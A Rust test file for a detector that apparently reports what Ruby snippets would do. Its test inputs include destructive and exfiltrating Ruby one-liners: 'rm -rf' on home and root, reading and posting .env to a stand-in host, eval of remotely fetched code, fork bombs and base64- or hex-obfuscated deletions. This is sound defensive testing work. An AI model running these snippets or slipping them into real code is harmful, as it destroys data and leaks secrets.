//! Ruby.

use super::{Language, check};

#[test]
fn code_takes_its_steps() {
    check(
        Language::Ruby,
        &[
            ("require \"fileutils\"; FileUtils.rm_rf(Dir.home)", &["delete /home/u with all below"]),
            ("FileUtils.rm_rf Dir.home", &["delete /home/u with all below"]),
            ("FileUtils::rm_rf('/')", &["delete / with all below"]),
            ("include FileUtils; rm_rf '/'", &["delete / with all below"]),
            ("FileUtils.rm_rf(%w[a b])", &["delete a with all below", "delete b with all below"]),
            ("system(\"rm -rf ~\")", &["shell rm -rf ~"]),
            ("system 'rm', '-rf', '/'", &["words rm | -rf | /"]),
            ("exec 'ls'", &["shell ls"]),
            ("puts `cat .env`", &["shell cat .env", "print ?<output of cat .env>"]),
            ("puts %x(ls #{Dir.home})", &["shell ls /home/u", "print ?<output of ls /home/u>"]),
            ("IO.popen('ls') { |io| puts io.read }", &["shell ls", "print ?<output of ls>"]),
            ("Open3.capture2('rm', '-rf', '/')", &["words rm | -rf | /"]),
            ("File.delete('a', 'b'); Dir.rmdir 'c'", &["delete a", "delete b", "delete c"]),
            ("puts File.read('.env')", &["read .env", "print ?<file .env>"]),
            ("File.write('a', \"b#{1 + 1}\")", &["write a: b2"]),
            ("File.open('a', 'w') { |f| f.puts 'x' }", &["write a: x"]),
            ("File.open('a', 'w') do |f|\n  f << 'x'\nend\nputs 1", &["write a: x", "print 1"]),
            ("File.open('.env').each_line { |l| puts l }", &["read .env", "print ?<file .env>"]),
            (
                "File.rename('a', 'b'); FileUtils.cp '.env', 'c'",
                &["move a b", "read .env", "write c: ?<file .env>"],
            ),
            ("FileUtils.chmod 0777, '/etc'", &["permit /etc 777"]),
            ("File.unlink(File.expand_path('~/.bashrc'))", &["delete /home/u/.bashrc"]),
            ("Dir.glob('*.o').each { |f| File.delete(f) }", &["delete *.o"]),
            ("Dir.glob('/etc/*') do |f| File.delete f end", &["delete /etc/*"]),
            (
                "['/etc', '/usr'].each do |d|\n  FileUtils.rm_rf d\nend",
                &["delete /etc with all below", "delete /usr with all below"],
            ),
            ("puts ENV['API_KEY']", &["print ?<$API_KEY>"]),
            ("puts ENV.to_h", &["print ?<environment>"]),
            ("p ENV.fetch('API_KEY')", &["print ?<$API_KEY>"]),
            (
                "require 'open-uri'; eval(URI.open('https://g.example/x').read)",
                &["fetch https://g.example/x", "evaluate ?<https://g.example/x>"],
            ),
            (
                "eval Net::HTTP.get(URI('https://g.example/x'))",
                &["fetch https://g.example/x", "evaluate ?<https://g.example/x>"],
            ),
            (
                "Net::HTTP.post(URI('https://c.example'), File.read('.env'))",
                &["read .env", "send ?<file .env> to https://c.example"],
            ),
            ("Process.kill(:KILL, -1)", &["kill -1"]),
            ("puts ARGF.read", &["read first", "print ?<file first>"]),
            ("puts gets", &["read first", "print ?<file first>"]),
            ("loop { fork }", &["linger", "exhaust forks without end"]),
            ("def f; fork { f }; f; end; f", &["exhaust starts itself again and again", "linger"]),
            ("while true\n  fork\nend", &["linger", "exhaust forks without end"]),
            ("fork while true", &["linger", "exhaust forks without end"]),
            ("ActiveRecord::Base.connection.execute('DROP TABLE users')", &["sql DROP TABLE users"]),
            ("require './x'; load 'y.rb'", &["import ./x", "import y.rb"]),
        ],
    );
}

#[test]
fn disguises_are_seen_through() {
    check(
        Language::Ruby,
        &[
            ("system(['726d202d7266207e'].pack('H*'))", &["shell rm -rf ~"]),
            ("require 'base64'; system(Base64.decode64('cm0gLXJmIH4='))", &["shell rm -rf ~"]),
            ("system('cm0gLXJmIH4='.unpack('m')[0])", &["shell rm -rf ~"]),
            ("system('/ fr- mr'.reverse)", &["shell rm -rf /"]),
            ("system([108, 115].map { |c| c.chr }.join)", &["shell ls"]),
            ("send(:system, 'ls')", &["shell ls"]),
            ("Kernel.send('sys' + 'tem', 'ls')", &["shell ls"]),
            ("def run(c)\n  system(c)\nend\nrun 'ls'", &["shell ls"]),
            ("def run(c); system(c); end; run('ls')", &["shell ls"]),
            ("f = ->(c) { system(c) }; f.call('ls')", &["shell ls"]),
            ("eval \"system('ls')\"", &["shell ls"]),
            ("a = 'rm'; system(\"#{a} -rf /\")", &["shell rm -rf /"]),
            ("system('%s -rf %s' % ['rm', '/'])", &["shell rm -rf /"]),
            ("system <<~EOF\n  ls\nEOF\nFile.delete('x')", &["shell   ls\n", "delete x"]),
            ("c = 'rm'; c << ' -rf /'; system(c)", &["shell rm -rf /"]),
            ("c = 'xm'; c.gsub!('x', 'r'); system(c)", &["shell ?<crafted>"]),
            ("%w[a b].each(&File.method(:delete))", &["delete a", "delete b"]),
            ("system(ARGV[0])", &["shell first"]),
            ("x = '/tmp/a'; x = '/' if y; FileUtils.rm_rf x", &["delete /tmp/a or / with all below"]),
        ],
    );
}

#[test]
fn harmless_code_takes_no_steps_or_only_prints() {
    check(
        Language::Ruby,
        &[
            ("puts 'rm -rf /'", &["print rm -rf /"]),
            ("puts 'rm -rf /'.length", &["print ?"]),
            ("# system('ls')\nx = 1", &[]),
            ("rules = { cmd: 'rm -rf /', 'k' => \"system('x')\" }\nputs rules[:cmd]", &["print rm -rf /"]),
            ("puts x if x =~ /system\\(/", &["print ?"]),
            ("=begin\nsystem('ls')\n=end\nputs 1", &["print 1"]),
            ("[1, 2].each { |x| puts x * 2 }", &["print 2", "print 4"]),
            ("class A\n  def system_name\n    'rm -rf /'\n  end\nend", &[]),
            ("case x\nwhen 'rm' then puts 'a'\nelse puts 'b'\nend", &["print a", "print b"]),
            ("x = a ? 'rm' : 'ls'\nputs x", &["print rm or ls"]),
            ("puts :system, %q(unlink)", &["print system unlink"]),
            ("y = 10 / 2 / 5; puts y", &["print 1"]),
        ],
    );
}

#[test]
fn a_block_behind_any_call_runs() {
    check(
        Language::Ruby,
        &[
            (
                "puts \"x\".gsub(\"x\"){ system(\"git reset --hard\") }",
                &["shell git reset --hard", "print ?<crafted>"],
            ),
            ("\"a\".sub(/a/) { `ls` }", &["shell ls"]),
            ("x = 'a'; x.gsub!(/a/) { File.delete('b') }", &["delete b"]),
            ("File.read('x').gsub(/a/) { system('ls') }", &["read x", "shell ls"]),
            ("'a b'.split(' ') { |part| File.delete(part) }", &["delete a", "delete b"]),
            ("x =~ /#{system('ls')}/; %r{#{`id`}}", &["shell ls", "shell id"]),
        ],
    );
}

#[test]
fn a_slash_that_may_divide_is_read_both_ways() {
    let deletes = |code: &str| {
        let steps = super::run(Language::Ruby, super::PrintsResult::No, code);
        steps.iter().any(|step| super::shown(step) == "delete a/b")
    };
    assert!(deletes("y = begin 4 end / 2; File.delete('a/b')"));
    assert!(deletes("x = 4; y = x /2; File.delete('a/b')"));
    assert!(deletes("puts 'c'.scan /'/; File.delete('a/b')"));
}
